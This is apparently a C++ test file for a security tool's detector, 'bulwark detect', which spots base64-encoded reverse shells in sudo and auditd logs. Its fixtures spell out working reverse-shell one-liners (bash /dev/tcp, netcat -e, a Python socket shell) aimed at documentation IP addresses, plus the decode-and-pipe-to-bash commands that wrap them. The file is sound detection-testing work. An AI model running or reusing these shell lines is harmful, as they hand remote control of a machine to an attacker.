// The vm plugin's native detector (reverse shells hidden in base64) driven by the real
// `bulwark detect`: its alerts are printed, stored, deduplicated across runs, suppressed,
// grouped into incidents, follow mode included, and nothing runs on the free plan.
#include <catch2/catch.hpp>
#include <cstdio>
#include <nlohmann/json.hpp>
#include <regex>

#include "support/test_support.h"

using bulwark::test::coreutilsBase64;
using bulwark::test::runBulwark;
using bulwark::test::TempDir;
using nlohmann::json;
namespace fs = std::filesystem;

namespace {

constexpr char kRule[] = "vm.encoded-reverse-shell";
const std::string kDevTcp = "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1";
const std::string kNetcat = "nc -e /bin/sh 198.51.100.9 9001";
const std::string kPython =
    "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
    "s.connect((\"203.0.113.50\",443));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);"
    "subprocess.call([\"/bin/sh\",\"-i\"])";

std::string hex(const std::string& text) {
  static const char* digits = "0123456789ABCDEF";
  std::string out;
  for (unsigned char c : text) {
    out.push_back(digits[c >> 4]);
    out.push_back(digits[c & 15]);
  }
  return out;
}

std::string sudoLine(const std::string& time, const std::string& user, const std::string& cmd) {
  return "Nov 28 " + time + " web1 sudo:    " + user + " : TTY=pts/0 ; PWD=/home/" + user +
         " ; USER=root ; COMMAND=" + cmd + "\n";
}

// An execve audit event of `bash -c <script>` as auditd writes it (hex for the script, which
// holds spaces and quotes), enriched with names like `log_format = ENRICHED`.
std::string auditExec(const std::string& stamp, const std::string& script) {
  std::string m = "msg=audit(" + stamp + "): ";
  return "type=SYSCALL " + m +
         "arch=c000003e syscall=59 success=yes exit=0 a0=ffffff9c a1=55d0c6e8a2f0 a2=441 "
         "a3=1b6 items=2 ppid=2201 pid=2240 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 "
         "sgid=0 fsgid=0 tty=pts0 ses=3 comm=\"bash\" exe=\"/usr/bin/bash\" subj=unconfined "
         "key=\"exec\"\x1d"
         "ARCH=x86_64 SYSCALL=execve AUID=\"alice\" UID=\"root\"\n"
         "type=EXECVE " +
         m + "argc=3 a0=\"bash\" a1=\"-c\" a2=" + hex(script) + "\n" + "type=CWD " + m +
         "cwd=\"/root\"\n" + "type=EOE " + m + "\n";
}

struct Fixture {
  TempDir dir;
  fs::path authLog = dir / "auth.log";
  fs::path auditLog = dir / "audit.log";
  fs::path config;

  Fixture() {
    bulwark::test::writeFile(
        authLog,
        sudoLine("09:00:00", "alice",
                 "/bin/bash -c echo " + coreutilsBase64(kDevTcp) + " | base64 -d | bash") +
            sudoLine("09:05:00", "bob",
                     "/usr/bin/python3 -c import base64;exec(base64.b64decode('" +
                         coreutilsBase64(kPython) + "'))") +
            sudoLine(
                "09:10:00", "carol",
                "/bin/sh -c echo " + coreutilsBase64("backup finished at 09:10") + " | base64 -d") +
            sudoLine("09:15:00", "dave", "/bin/sh -c echo '!!%%not-base64%%!!' | base64 -d | sh") +
            sudoLine("09:20:00", "erin", "/usr/bin/base64 -d /srv/keys/backup.b64"));
    bulwark::test::writeFile(
        auditLog, auditExec("1764322000.000:900", "bash -c \"$(echo " + coreutilsBase64(kNetcat) +
                                                      " | base64 --decode)\""));
    config = bulwark::test::writeConfig(dir, {{"vm", ""}}, {});
  }

  bulwark::test::RunResult detect(std::vector<std::string> extra = {}) const {
    std::vector<std::string> args{"detect",
                                  "--source",
                                  "auth.log:" + authLog.string(),
                                  "--source",
                                  "auditd:" + auditLog.string(),
                                  "--config",
                                  config.string(),
                                  "--year",
                                  "2026",
                                  "--no-ueba"};
    args.insert(args.end(), extra.begin(), extra.end());
    return runBulwark(args);
  }
};

std::vector<json> ofRule(const json& alerts) {
  std::vector<json> out;
  for (const auto& a : alerts) {
    if (a["rule"] == kRule) out.push_back(a);
  }
  return out;
}

std::string entity(const json& alert, const std::string& type) {
  for (const auto& e : alert["entities"]) {
    if (e["type"] == type) return e["value"];
  }
  return "";
}

std::string evidenceLine(const json& alert, const std::string& prefix) {
  for (const auto& line : alert["evidence"]) {
    std::string s = line;
    if (s.rfind(prefix, 0) == 0) return s.substr(prefix.size());
  }
  return "";
}

}  // namespace

TEST_CASE(
    "encoded reverse shells in sudo and auditd commands raise alerts with the decoded "
    "command",
    "[sdkevents][native][cli]") {
  Fixture f;
  auto r = f.detect({"--format", "json"});
  INFO(r.err);
  REQUIRE(r.exitCode == 0);
  CHECK_THAT(r.err, Catch::Contains("native plugin detectors: 1 plugin(s)") &&
                        Catch::Contains("0 invalid, 0 failed calls"));
  auto alerts = ofRule(json::parse(r.out));
  REQUIRE(alerts.size() == 3);
  std::map<std::string, std::string> decodedBySource;
  for (const auto& a : alerts) {
    CHECK(a["title"] == "Encoded reverse shell command");
    CHECK(a["severity"] == "High");
    CHECK(a["mitre"]["tactic"] == "Execution");
    CHECK(a["mitre"]["technique"] == "T1059.004");
    CHECK(a["status"] == "new");
    std::string decoded = evidenceLine(a, "decoded command: ");
    if (entity(a, "user") == "bob") CHECK(decoded == kPython);
    if (entity(a, "process") == "bash") CHECK(decoded == kNetcat);  // the audit event
    if (entity(a, "user") == "alice" && entity(a, "process") != "bash") CHECK(decoded == kDevTcp);
    decodedBySource[decoded] = entity(a, "user");
  }
  CHECK(decodedBySource.size() == 3);
  CHECK(decodedBySource.count(kDevTcp) == 1);
  CHECK(decodedBySource.count(kNetcat) == 1);
  CHECK(decodedBySource.count(kPython) == 1);
  for (const std::string benign : {"carol", "dave", "erin"}) {
    for (const auto& a : alerts)
      CHECK(entity(a, "user") != benign);
  }

  SECTION("they are stored once however often detection runs") {
    auto stored = [&] {
      auto list = runBulwark({"alerts", "list", "--config", f.config.string(), "--format", "json"});
      REQUIRE(list.exitCode == 0);
      return ofRule(json::parse(list.out)).size();
    };
    CHECK(stored() == 3);
    REQUIRE(f.detect({"--format", "json"}).exitCode == 0);
    CHECK(stored() == 3);
  }
  SECTION("JSON Lines streams them like the engine's alerts") {
    auto jsonl = f.detect({"--format", "jsonl", "--no-store"});
    REQUIRE(jsonl.exitCode == 0);
    size_t streamed = 0;
    std::istringstream lines(jsonl.out);
    for (std::string line; std::getline(lines, line);)
      streamed += json::parse(line)["rule"] == kRule;
    CHECK(streamed == 3);
  }
  SECTION("they join incidents and the SIEM formats") {
    auto incidents = f.detect({"--format", "json", "--incidents"});
    REQUIRE(incidents.exitCode == 0);
    CHECK_THAT(incidents.out, Catch::Contains(kRule));
    auto cef = f.detect({"--format", "cef"});
    REQUIRE(cef.exitCode == 0);
    CHECK_THAT(cef.out, Catch::Contains("Encoded reverse shell command"));
  }
}

TEST_CASE("a suppression applies to native detector alerts", "[sdkevents][native][cli]") {
  Fixture f;
  auto s = runBulwark({"alerts", "suppress", "--rule", kRule, "--entity", "user=bob", "--reason",
                       "red team exercise", "--days", "1", "--config", f.config.string()});
  INFO(s.err);
  REQUIRE(s.exitCode == 0);
  auto r = f.detect({"--format", "json"});
  REQUIRE(r.exitCode == 0);
  size_t suppressed = 0;
  for (const auto& a : ofRule(json::parse(r.out))) {
    bool bob = entity(a, "user") == "bob";
    CHECK((a["status"] == "suppressed") == bob);
    suppressed += bob;
  }
  CHECK(suppressed == 1);
}

TEST_CASE("on the free plan the native detector does not run and detect says so",
          "[sdkevents][native][cli]") {
  Fixture f;
  REQUIRE(runBulwark({"plans", "set", "vm", "free", "--config", f.config.string()}).exitCode == 0);
  auto r = f.detect({"--format", "json"});
  REQUIRE(r.exitCode == 0);
  CHECK_THAT(r.err, Catch::Contains("plugin vm is on the free") &&
                        Catch::Contains("its native detectors (1 rules) do not run"));
  CHECK(ofRule(json::parse(r.out)).empty());
}

TEST_CASE("follow mode hands appended lines to the native detector", "[sdkevents][native][cli]") {
  Fixture f;
  auto first = runBulwark({"detect", "--follow", "--max-polls", "2", "--poll-ms", "10", "--source",
                           "auth.log:" + f.authLog.string(), "--config", f.config.string(),
                           "--year", "2026", "--no-ueba", "--format", "jsonl"});
  INFO(first.err);
  REQUIRE(first.exitCode == 0);
  size_t raised = 0;
  std::istringstream lines(first.out);
  for (std::string line; std::getline(lines, line);)
    raised += json::parse(line)["rule"] == kRule;
  CHECK(raised == 2);  // alice and bob; the audit log is not followed here
  // Appended after the stored position: only the new line is read on restart.
  std::string more = sudoLine("10:00:00", "mallory",
                              "/bin/sh -c echo " + coreutilsBase64(kNetcat) + "|base64 -d|sh");
  std::string all = bulwark::test::readFile(f.authLog) + more;
  bulwark::test::writeFile(f.authLog, all);
  auto second = runBulwark({"detect", "--follow", "--max-polls", "2", "--poll-ms", "10", "--source",
                            "auth.log:" + f.authLog.string(), "--config", f.config.string(),
                            "--year", "2026", "--no-ueba", "--format", "jsonl"});
  REQUIRE(second.exitCode == 0);
  std::vector<json> again;
  std::istringstream lines2(second.out);
  for (std::string line; std::getline(lines2, line);) {
    json a = json::parse(line);
    if (a["rule"] == kRule) again.push_back(a);
  }
  REQUIRE(again.size() == 1);
  CHECK(entity(again[0], "user") == "mallory");
  auto list = runBulwark({"alerts", "list", "--config", f.config.string(), "--format", "json"});
  CHECK(ofRule(json::parse(list.out)).size() == 3);
}

TEST_CASE("a huge encoded payload is decoded within limits and its evidence capped",
          "[sdkevents][native][cli]") {
  TempDir dir;
  std::string huge = kDevTcp + " # " + std::string(200000, 'A');
  std::string benignHuge(200000, 'z');
  bulwark::test::writeFile(
      dir / "commands.jsonl",
      json{{"time", "2026-11-28T09:00:00Z"},
           {"user", "alice"},
           {"command", "echo " + coreutilsBase64(huge) + " | base64 -d | bash"}}
              .dump() +
          "\n" +
          json{{"time", "2026-11-28T09:01:00Z"},
               {"user", "bob"},
               {"command", "echo " + coreutilsBase64(benignHuge) + " | base64 -d > /dev/null"}}
              .dump() +
          "\n");
  auto config = bulwark::test::writeConfig(dir, {{"vm", ""}}, {});
  auto r = runBulwark({"detect", "--source", "jsonl:" + (dir / "commands.jsonl").string(),
                       "--config", config.string(), "--format", "json", "--no-ueba"});
  INFO(r.err);
  REQUIRE(r.exitCode == 0);
  auto alerts = ofRule(json::parse(r.out));
  REQUIRE(alerts.size() == 1);
  CHECK(entity(alerts[0], "user") == "alice");
  std::string decoded = evidenceLine(alerts[0], "decoded command: ");
  CHECK(decoded.rfind(kDevTcp, 0) == 0);
  CHECK(decoded.size() <= 1024 + 3);
  for (const auto& line : alerts[0]["evidence"])
    CHECK(line.get<std::string>().size() <= 4096 + 3);
}

TEST_CASE("loghub Linux and OpenSSH logs: every event reaches the native detector, nothing fires",
          "[sdkevents][native][cli][corpus]") {
  fs::path corpus = bulwark::test::corpusDir();
  if (corpus.empty()) {
    BULWARK_SKIP("../shared/corpus absent: corpus case skipped");
    return;
  }
  TempDir dir;
  auto config = bulwark::test::writeConfig(dir, {{"vm", ""}}, {});
  for (const char* name : {"Linux/Linux_2k.log", "OpenSSH/OpenSSH_2k.log"}) {
    fs::path log = corpus / "logs" / "loghub" / name;
    auto r = runBulwark({"detect", "--source", "syslog:" + log.string(), "--config",
                         config.string(), "--format", "json", "--no-ueba", "--no-store"});
    INFO(name << "\n" << r.err);
    REQUIRE(r.exitCode == 0);
    std::smatch events, handed;
    std::regex eventsRe(R"((\d+) lines, (\d+) events)");
    std::regex handedRe(R"(native plugin detectors: 1 plugin\(s\), (\d+) events in (\d+) batches)");
    REQUIRE(std::regex_search(r.err, events, eventsRe));
    REQUIRE(std::regex_search(r.err, handed, handedRe));
    uint64_t n = std::stoull(events[2]);
    CHECK(n > 1000);
    CHECK(std::stoull(handed[1]) == n);
    CHECK(std::stoull(handed[2]) == (n + 1023) / 1024);
    CHECK(ofRule(json::parse(r.out)).empty());
  }
}
